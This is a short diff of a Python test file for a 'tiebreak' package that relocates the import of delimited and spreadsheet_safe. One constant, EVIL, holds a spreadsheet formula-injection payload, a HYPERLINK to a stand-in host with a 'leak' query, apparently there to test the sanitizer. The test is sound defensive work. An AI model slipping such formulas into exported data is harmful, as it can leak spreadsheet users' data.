@@ -8,8 +8,8 @@ from pathlib import Path
 
 import pytest
 
-from tiebreak._presenters import delimited, spreadsheet_safe
 from tiebreak.cli import main
+from tiebreak.presenters.standings import delimited, spreadsheet_safe
 from tiebreak.readers import example_text
 
 EVIL = '=HYPERLINK("http://x.test/?leak","Click")'
